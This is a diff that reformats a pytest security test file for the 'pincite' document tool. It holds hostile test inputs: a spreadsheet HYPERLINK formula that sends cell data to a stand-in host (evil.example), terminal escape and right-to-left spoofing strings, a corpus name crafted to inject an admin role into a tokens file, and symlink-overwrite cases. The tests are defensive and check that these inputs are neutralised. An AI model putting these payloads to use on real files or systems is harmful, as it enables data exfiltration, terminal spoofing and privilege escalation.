@@ -25,9 +25,7 @@ from pincite.workbench.grid import Filled, Grid, spec_from, write_grid
 
 ROOT = Path(__file__).parents[3]
 RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
-ESCAPES = (
-    "\x1b]0;owned\x07\x1b[2J\x9b31m\x90q\u202egpj.exe\x7f\r\x08[/bold][link=http://evil.example]x[/link][red]:boom:"
-)
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\x90q\u202egpj.exe\x7f\r\x08[/bold][link=http://evil.example]x[/link][red]:boom:"
 STEERS = "\x1b\x9b\x90\x07\x08\x7f\u202e"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -72,16 +70,40 @@ def test_a_workbook_of_a_grid_holds_no_formula_and_no_link_of_a_document(tmp_pat
     """The rows, headings, values and notes of a grid are formulas: no cell of its workbook is one, and none links elsewhere."""
     openpyxl = pytest.importorskip("openpyxl")
     spec = spec_from(
-        {"title": FORMULA, "entity": FORMULA, "rows": [FORMULA], "columns": [{"name": FORMULA, "question": "What?"}]}
+        {
+            "title": FORMULA,
+            "entity": FORMULA,
+            "rows": [FORMULA],
+            "columns": [{"name": FORMULA, "question": "What?"}],
+        }
     )
     query = Query(FORMULA)
-    one = Filled(FORMULA, FORMULA, "0", query, "supported", FORMULA, FORMULA, FORMULA, FORMULA, reason=FORMULA)
+    one = Filled(
+        FORMULA,
+        FORMULA,
+        "0",
+        query,
+        "supported",
+        FORMULA,
+        FORMULA,
+        FORMULA,
+        FORMULA,
+        reason=FORMULA,
+    )
     write_grid(Grid("x", spec, ((one,),)), tmp_path / "grid.xlsx")
     book = openpyxl.load_workbook(tmp_path / "grid.xlsx")
-    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    cells = [
+        cell
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
     assert any("evil.example" in str(cell.value) for cell in cells)
     assert not [
-        cell for cell in cells if cell.data_type == "f" or (cell.hyperlink and "evil" in str(cell.hyperlink.target))
+        cell
+        for cell in cells
+        if cell.data_type == "f" or (cell.hyperlink and "evil" in str(cell.hyperlink.target))
     ]
     assert not book.defined_names
 
@@ -110,9 +132,17 @@ def test_modules_that_lie_in_the_working_directory_are_not_imported(tmp_path, ex
     (work / "note.md").write_text("# Report\n\nRevenue was EUR 5 million in 2023.\n")
     words = [sys.executable, "-P", "-m", "pincite", "index", "note.md", "--corpus", "c", "--json"]
     environment = {**os.environ, "PYTHONPATH": str(ROOT)}
-    told = subprocess.run(words, cwd=work, env=environment, capture_output=True, text=True, timeout=60, check=False)
+    told = subprocess.run(
+        words, cwd=work, env=environment, capture_output=True, text=True, timeout=60, check=False
+    )
     assert told.returncode == 0 and not canary.exists(), told.stderr[-500:]
-    subprocess.run([sys.executable, "-c", "import numpy"], cwd=work, capture_output=True, timeout=60, check=False)
+    subprocess.run(
+        [sys.executable, "-c", "import numpy"],
+        cwd=work,
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
     assert canary.exists()  # as they would
 
 
@@ -161,7 +191,10 @@ def test_consent_names_the_host_that_is_really_reached(tmp_path, monkeypatch, ur
     (tmp_path / "pincite.toml").write_text(f'[models]\nbase_url = "{url}"\nlarge = "x"\n')
     with pytest.raises(PinciteError) as asked:
         load()
-    assert f'sends questions and passages to "{host}"' in str(asked.value) and str(asked.value).isascii()
+    assert (
+        f'sends questions and passages to "{host}"' in str(asked.value)
+        and str(asked.value).isascii()
+    )
 
 
 @pytest.mark.parametrize("change", ["host", "key", "path", "folder", "role"])
@@ -232,7 +265,9 @@ def steering(tmp_path_factory):
         ["cost"],
         ["remove", ESCAPES],
     ],
-    ids=lambda words: " ".join(words)[:18].encode("ascii", "replace").decode().replace("\x1b", "ESC"),
+    ids=lambda words: (
+        " ".join(words)[:18].encode("ascii", "replace").decode().replace("\x1b", "ESC")
+    ),
 )
 def test_no_document_steers_the_terminal_or_breaks_its_markup(pincite, steering, words):
     """Names, titles, metadata and questions hold escapes and markup: what is printed steers nothing, and is printed."""
@@ -248,7 +283,22 @@ def test_no_document_steers_the_terminal_or_breaks_its_markup(pincite, steering,
 
 @pytest.mark.parametrize("name", ["PINCITE_PAGES", "PINCITE_THRESHOLD", "PINCITE_ROW_LIMIT"])
 @pytest.mark.parametrize(
-    "value", ["nan", "inf", "-inf", "1e309", "-1", "9" * 5_000, "1e999999999", "0x10", "", " ", "sNaN", "--1", "1,5"]
+    "value",
+    [
+        "nan",
+        "inf",
+        "-inf",
+        "1e309",
+        "-1",
+        "9" * 5_000,
+        "1e999999999",
+        "0x10",
+        "",
+        " ",
+        "sNaN",
+        "--1",
+        "1,5",
+    ],
 )
 def test_a_number_that_cannot_be_is_refused_by_its_name(name, value):
     """A setting is no number, no end of one, or one of five thousand digits: it is refused, and the setting is named."""
@@ -274,7 +324,9 @@ def test_a_number_that_cannot_be_is_refused_by_its_name(name, value):
     ],
     ids=lambda words: " ".join(words)[:24],
 )
-def test_what_did_not_work_never_exits_as_if_it_had(pincite, example_corpus, tmp_path, monkeypatch, words):
+def test_what_did_not_work_never_exits_as_if_it_had(
+    pincite, example_corpus, tmp_path, monkeypatch, words
+):
     """A command is given what cannot be: it says so, without a traceback and with another exit code than 0, also as JSON."""
     monkeypatch.chdir(tmp_path)
     for more in ([], ["--json"]):
@@ -289,14 +341,18 @@ def test_what_did_not_work_never_exits_as_if_it_had(pincite, example_corpus, tmp
 
 
 @pytest.mark.parametrize("name", ["out.csv", ".out.half.csv", "lock", "grid-x.lock"])
-def test_a_link_that_waits_where_something_is_written_gets_nothing(fresh_corpus, tmp_path, examples, name):
+def test_a_link_that_waits_where_something_is_written_gets_nothing(
+    fresh_corpus, tmp_path, examples, name
+):
     """A link to the user's file waits where Pincite writes a file half, or locks: that file stays as it is."""
     mine = tmp_path / "mine"
     mine.write_text("precious")
     if name == ".out.half.csv":
         (tmp_path / name).symlink_to(mine)
         write(tmp_path / "out.csv", "x")
-        assert (tmp_path / "out.csv").read_text() == "x" and not (tmp_path / "out.csv").is_symlink()
+        assert (tmp_path / "out.csv").read_text() == "x" and not (
+            tmp_path / "out.csv"
+        ).is_symlink()
     elif name == "lock":
         (fresh_corpus / name).unlink(missing_ok=True)
         (fresh_corpus / name).symlink_to(mine)
@@ -334,10 +390,14 @@ def test_a_file_of_tokens_is_nobody_elses_whoever_made_it(tmp_path):
     finally:
         os.umask(before)
     assert (tmp_path / "tokens.toml").stat().st_mode & 0o777 == 0o600
-    assert (tmp_path / "open.txt").stat().st_mode & 0o777 == 0o666  # which the mask would have let through
+    assert (
+        tmp_path / "open.txt"
+    ).stat().st_mode & 0o777 == 0o666  # which the mask would have let through
 
 
-@pytest.mark.parametrize("name", ['x"]\nrole = "admin"\n[eve]\nsha256 = "' + "0" * 64, "\\", '"', "a\nb", "\x00"])
+@pytest.mark.parametrize(
+    "name", ['x"]\nrole = "admin"\n[eve]\nsha256 = "' + "0" * 64, "\\", '"', "a\nb", "\x00"]
+)
 def test_the_name_of_a_corpus_adds_nobody_to_the_tokens(tmp_path, name):
     """The name of a corpus, perhaps that of a stranger's folder, is made to end the text it is written in: nobody is added."""
     from pincite.serve.door.access import read_tokens
@@ -352,7 +412,9 @@ def test_the_name_of_a_corpus_adds_nobody_to_the_tokens(tmp_path, name):
     assert (anna.name, anna.role, anna.corpora) == ("anna", "reader", frozenset([name]))
 
 
-@pytest.mark.parametrize("table", ["nodes", "documents", "files", "generations", "pages", "a source"])
+@pytest.mark.parametrize(
+    "table", ["nodes", "documents", "files", "generations", "pages", "a source"]
+)
 def test_a_flipped_letter_anywhere_is_found_when_it_is_looked_for(pincite, fresh_corpus, table):
     """A letter is changed in one table of a corpus, or in a source: `doctor --verify` says so and exits with 1."""
     if table == "a source":
@@ -385,7 +447,12 @@ def test_the_locks_of_a_release_name_no_other_place_and_hash_all():
         held = [one for one in entries if one.strip() and not one.lstrip().startswith("#")]
         assert len(held) > 20
         for one in held:
-            assert "==" in one and "--hash=sha256:" in one and "://" not in one and not one.startswith("-"), one[:80]
+            assert (
+                "==" in one
+                and "--hash=sha256:" in one
+                and "://" not in one
+                and not one.startswith("-")
+            ), one[:80]
         assert all(
             len(part) == 64
             for one in held
